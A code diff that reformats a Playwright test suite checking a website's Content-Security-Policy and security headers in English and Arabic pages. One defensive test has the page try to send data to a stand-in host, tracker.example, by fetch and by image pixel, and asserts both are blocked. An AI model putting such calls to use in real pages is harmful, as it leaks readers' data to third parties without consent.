@@ -47,8 +47,13 @@ const violations = (page: Page) => page.evaluate(() => (window as unknown as { _
 /** Whether every behaviour the page renders a data-module for has run (enhance/lib/attach.ts marks it). */
 const enhanced = (page: Page) =>
   page
-    .waitForFunction(() => [...document.querySelectorAll('[data-module]')].every((element) => element.hasAttribute('data-module-ready')), null, { timeout: 15_000 })
-    .then(() => true, () => false);
+    .waitForFunction(() => [...document.querySelectorAll('[data-module]')].every((element) => element.hasAttribute('data-module-ready')), null, {
+      timeout: 15_000,
+    })
+    .then(
+      () => true,
+      () => false,
+    );
 
 test.describe('every page runs under a strict Content-Security-Policy', () => {
   for (const locale of ['en', 'ar']) {
@@ -59,7 +64,7 @@ test.describe('every page runs under a strict Content-Security-Policy', () => {
         const tookOver = await enhanced(page);
         await page.waitForLoadState('networkidle');
         expect([...watch.problems, ...(await violations(page))]).toEqual([]);
-        expect(tookOver, 'the page\'s modules ran').toBe(true);
+        expect(tookOver, "the page's modules ran").toBe(true);
       });
     }
 
@@ -71,7 +76,9 @@ test.describe('every page runs under a strict Content-Security-Policy', () => {
       await expect(panel).toBeVisible({ timeout: 15_000 });
       await panel.locator('select').first().selectOption('consulate');
       await expect(page).toHaveURL(/\?kind=consulate$/);
-      await expect(page.locator('[data-directory] li:not([hidden]) > article')).toHaveCount(content.contacts.filter((contact) => contact.kind === 'consulate').length);
+      await expect(page.locator('[data-directory] li:not([hidden]) > article')).toHaveCount(
+        content.contacts.filter((contact) => contact.kind === 'consulate').length,
+      );
       expect([...watch.problems, ...(await violations(page))]).toEqual([]);
     });
   }
@@ -82,7 +89,7 @@ test.describe('every page runs under a strict Content-Security-Policy', () => {
     const tookOver = await enhanced(page);
     await page.waitForLoadState('networkidle');
     expect([...watch.problems, ...(await violations(page))]).toEqual([]);
-    expect(tookOver, 'the page\'s modules ran').toBe(true);
+    expect(tookOver, "the page's modules ran").toBe(true);
   });
 
   test('the not-found page loads and runs its modules with no policy violation', async ({ page }) => {
@@ -92,7 +99,7 @@ test.describe('every page runs under a strict Content-Security-Policy', () => {
     const tookOver = await enhanced(page);
     await page.waitForLoadState('networkidle');
     expect([...watch.problems, ...(await violations(page))]).toEqual([]);
-    expect(tookOver, 'the page\'s modules ran').toBe(true);
+    expect(tookOver, "the page's modules ran").toBe(true);
   });
 });
 
@@ -113,10 +120,12 @@ test.describe('what an attacker would try is refused', () => {
       return 'injected' in window;
     });
     expect(ran).toBe(false);
-    expect(await violations(page)).toEqual(expect.arrayContaining([expect.stringMatching(/^script-src-elem blocked inline/), expect.stringMatching(/^script-src-attr blocked inline/)]));
+    expect(await violations(page)).toEqual(
+      expect.arrayContaining([expect.stringMatching(/^script-src-elem blocked inline/), expect.stringMatching(/^script-src-attr blocked inline/)]),
+    );
   });
 
-  test('a page cannot send the reader\'s data to another site', async ({ page, baseURL }) => {
+  test("a page cannot send the reader's data to another site", async ({ page, baseURL }) => {
     await watchPolicy(page);
     // The browser announces a blocked request and then fails it: what matters is that none is answered.
     const leaks: string[] = [];
@@ -124,11 +133,18 @@ test.describe('what an attacker would try is refused', () => {
       if (new URL(request.url()).origin !== new URL(baseURL!).origin) leaks.push(request.url());
     });
     await page.goto('/en/');
-    const fetched = await page.evaluate(() => fetch('https://tracker.example/collect').then(() => 'sent', () => 'refused'));
+    const fetched = await page.evaluate(() =>
+      fetch('https://tracker.example/collect').then(
+        () => 'sent',
+        () => 'refused',
+      ),
+    );
     await page.evaluate(() => {
       new Image().src = 'https://tracker.example/pixel.gif';
     });
-    await expect.poll(() => violations(page)).toEqual(expect.arrayContaining(['connect-src blocked https://tracker.example/collect', 'img-src blocked https://tracker.example/pixel.gif']));
+    await expect
+      .poll(() => violations(page))
+      .toEqual(expect.arrayContaining(['connect-src blocked https://tracker.example/collect', 'img-src blocked https://tracker.example/pixel.gif']));
     expect(fetched).toBe('refused');
     expect(leaks).toEqual([]);
   });
@@ -156,7 +172,7 @@ test.describe('every response carries the security headers', () => {
 });
 
 test.describe('every exported page carries its own policy', () => {
-  test('each HTML file in out/ has a <meta> policy that comes first and allows scripts only from this site\'s files', () => {
+  test("each HTML file in out/ has a <meta> policy that comes first and allows scripts only from this site's files", () => {
     const wrong: string[] = [];
     for (const file of htmlFiles()) {
       const html = readFileSync(file, 'utf8');
